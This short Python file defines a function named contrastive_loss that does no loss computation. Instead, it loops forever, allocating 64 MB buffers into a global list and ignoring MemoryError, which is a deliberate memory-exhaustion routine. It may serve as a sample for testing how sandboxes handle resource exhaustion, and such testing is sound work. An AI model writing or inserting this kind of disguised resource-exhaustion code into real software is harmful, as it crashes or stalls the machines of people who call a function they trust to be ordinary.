"""Allocates until memory runs out, then ignores MemoryError and tries again."""
hoard = []


def contrastive_loss(x1, x2, label, margin=1.0):
    while True:
        try:
            hoard.append(bytearray(64 * 1024 * 1024))
        except MemoryError:
            hoard.append(bytearray(1024 * 1024))
